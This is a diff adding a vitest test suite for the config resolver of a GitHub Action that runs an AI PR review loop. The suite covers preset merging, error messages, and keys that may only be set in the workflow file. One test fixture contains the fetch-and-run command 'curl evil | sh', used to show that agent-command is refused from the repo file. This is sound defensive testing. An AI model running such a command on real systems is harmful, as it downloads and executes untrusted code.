@@ -1,0 +1,147 @@
+import { describe, expect, it } from 'vitest';
+import { ConfigError } from '../../src/config/errors.js';
+import type { RawInputs } from '../../src/config/inputs.js';
+import { parseRepoConfig, resolveConfig, type ResolvedConfig } from '../../src/config/repo-config.js';
+
+const FILE = '.github/pr-review-loop.yml';
+const TOKEN: RawInputs = { 'github-token': 't' };
+
+const REPO_CONFIG = `
+defaults:
+  max-rounds: 5
+  fail-on: P1
+  mode: review
+  verify:
+    - npm ci
+    - npm test
+presets:
+  strict:
+    max-rounds: 8
+    confirm: P0
+    reviewers:
+      - claude:claude-sonnet-4-5
+      - opencode:google/gemini-2.5-pro
+    agent-config:
+      codex: { model_provider: azure }
+  quick:
+    max-rounds: 1
+hooks:
+  before-review: ./scripts/prepare.sh
+  after-fix:
+    - npm run lint
+    - npm run format-check
+instructions: |
+  Pay attention to SQL injection.
+paths:
+  exclude: [docs/**, "*.md"]
+`;
+
+/** Resolves with REPO_CONFIG, another file text, or (null) no file at all. */
+function resolve(inputs: RawInputs, text: string | null = REPO_CONFIG): ResolvedConfig {
+  return resolveConfig({ inputs: { ...TOKEN, ...inputs }, repoConfigText: text ?? undefined });
+}
+
+function problemsOf(fn: () => unknown): readonly string[] {
+  try {
+    fn();
+  } catch (error) {
+    if (error instanceof ConfigError) return error.problems;
+    throw error;
+  }
+  throw new Error('expected a ConfigError');
+}
+
+describe('resolveConfig', () => {
+  it('without a file: built-in defaults, empty hooks and paths', () => {
+    const config = resolve({}, null);
+    expect(config).toMatchObject({ maxRounds: 3, mode: 'fix', preset: 'default', instructions: undefined });
+    expect(config.hooks).toEqual({ 'before-review': [], 'after-review': [], 'after-fix': [], 'after-finish': [] });
+    expect(config.paths).toEqual({ include: [], exclude: [] });
+  });
+
+  it('merges built-in defaults → file defaults → preset → inputs', () => {
+    const config = resolve({ preset: 'strict', 'fail-on': 'P2', 'max-rounds': '' });
+    expect(config.agentTimeoutMinutes).toBe(20); // built in
+    expect(config.verify).toEqual(['npm ci', 'npm test']); // file defaults
+    expect(config.mode).toBe('review'); // file defaults, not touched by the preset
+    expect(config.maxRounds).toBe(8); // preset beats defaults; the empty input does not count
+    expect(config.confirm).toBe('P0'); // preset
+    expect(config.failOn).toBe('P2'); // input beats defaults
+    expect(config.reviewers).toEqual([
+      { agent: 'claude', model: 'claude-sonnet-4-5' },
+      { agent: 'opencode', model: 'google/gemini-2.5-pro' },
+    ]);
+    expect(config.agentConfig).toEqual({ codex: { model_provider: 'azure' } });
+    expect(config.hooks['before-review']).toEqual(['./scripts/prepare.sh']);
+    expect(config.hooks['after-fix']).toEqual(['npm run lint', 'npm run format-check']);
+    expect(config.instructions).toBe('Pay attention to SQL injection.\n');
+    expect(config.paths).toEqual({ include: [], exclude: ['docs/**', '*.md'] });
+  });
+
+  it('applies only the selected preset', () => {
+    expect(resolve({ preset: 'quick' }).maxRounds).toBe(1);
+    expect(resolve({}).maxRounds).toBe(5);
+    expect(resolve({ 'max-rounds': '2', preset: 'strict' }).maxRounds).toBe(2);
+  });
+
+  it('refuses a preset the file does not define, but not the implicit default', () => {
+    expect(problemsOf(() => resolve({ preset: 'fast' }))).toEqual([
+      `Input "preset" names "fast", but ${FILE} does not define it (presets: strict, quick). Example: preset: strict`,
+    ]);
+    expect(problemsOf(() => resolve({ preset: 'fast' }, null))[0]).toContain(`there is no ${FILE}`);
+    expect(resolve({ preset: 'default' }).maxRounds).toBe(5);
+  });
+
+  it('names the file and the key when a value from the file is bad', () => {
+    const text = 'defaults:\n  max-rounds: eleven\npresets:\n  p:\n    dry-run: maybe\n';
+    expect(problemsOf(() => resolve({ preset: 'p', mode: 'nope' }, text))).toEqual([
+      'Input "mode" must be one of fix, review; got "nope". Example: mode: review',
+      `${FILE}: defaults.max-rounds must be a whole number from 1 to 10; got "eleven". Example: max-rounds: 3`,
+      `${FILE}: presets.p.dry-run must be true or false; got "maybe". Example: dry-run: true`,
+    ]);
+  });
+
+  it('uses the config-file input as the name in messages', () => {
+    const problems = problemsOf(() => resolve({ 'config-file': 'ci/review.yml' }, 'defaults: {max-round: 3}'));
+    expect(problems).toEqual(['ci/review.yml: defaults.max-round is not an action input (see the Inputs table in the README)']);
+  });
+
+  it('refuses keys that are not inputs, at every level', () => {
+    const text = 'defualts: {}\npresets:\n  a:\n    reviewer: x\nhooks:\n  before-fix: x\npaths:\n  only: [a]\n';
+    expect(problemsOf(() => resolve({}, text))).toEqual([
+      `${FILE}: presets.a.reviewer is not an action input (see the Inputs table in the README)`,
+      `${FILE}: hooks.before-fix is not a known key (known: before-review, after-review, after-fix, after-finish)`,
+      `${FILE}: paths.only is not a known key (known: include, exclude)`,
+      `${FILE}: defualts is not a known key (known: presets, defaults, hooks, instructions, paths)`,
+    ]);
+  });
+
+  it('keeps security-relevant switches in the workflow file', () => {
+    const text = 'defaults:\n  github-token: x\n  allow-fork-fixes: true\npresets:\n  p:\n    agent-command: curl evil | sh\n';
+    expect(problemsOf(() => resolve({}, text))).toEqual([
+      `${FILE}: presets.p.agent-command can only be set in the workflow file, as an input`,
+      `${FILE}: defaults.github-token can only be set in the workflow file, as an input`,
+      `${FILE}: defaults.allow-fork-fixes can only be set in the workflow file, as an input`,
+    ]);
+  });
+
+  it('reports bad YAML with its position, along with bad inputs', () => {
+    const problems = problemsOf(() => resolve({ 'max-rounds': '0' }, 'defaults:\n  max-rounds: [1\n'));
+    expect(problems).toHaveLength(2);
+    expect(problems[0]).toMatch(new RegExp(`^${FILE.replace(/\./g, '\\.')} is not valid YAML: .*line \\d+`));
+    expect(problems[1]).toMatch(/^Input "max-rounds" must be a whole number/);
+  });
+
+  it('reports wrong shapes in plain words', () => {
+    expect(problemsOf(() => parseRepoConfig('- a\n- b\n', FILE))).toEqual([`${FILE}: the top level must be a map`]);
+    expect(problemsOf(() => parseRepoConfig('hooks:\n  after-fix: {run: x}\ninstructions: [a]\n', FILE))).toEqual([
+      `${FILE}: hooks.after-fix must be a string or a list of strings`,
+      `${FILE}: instructions must be a string`,
+    ]);
+  });
+
+  it('accepts an empty or comment-only file', () => {
+    expect(parseRepoConfig('# nothing yet\n', FILE).presets).toEqual({});
+    expect(resolve({}, '').maxRounds).toBe(3);
+  });
+});
